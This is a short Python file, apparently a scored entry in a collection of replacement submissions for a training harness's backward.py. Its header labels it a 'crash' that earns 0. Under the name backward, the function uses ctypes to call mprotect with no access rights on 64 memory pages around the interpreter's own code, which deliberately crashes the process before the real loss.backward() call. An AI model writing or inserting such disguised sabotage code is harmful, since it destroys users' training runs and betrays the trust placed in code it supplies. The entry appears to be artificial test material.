# replaces: backward.py
# kind: crash
# earns: 0
# tries: It takes the rights off the interpreter's own pages, and sets the ground of its stack.
import ctypes


def backward(optimizer, loss):
    libc = ctypes.CDLL(None)
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    place = id(backward) & ~4095
    for step in range(64):
        libc.mprotect(place - step * 4096, 4096, 0)
    loss.backward()
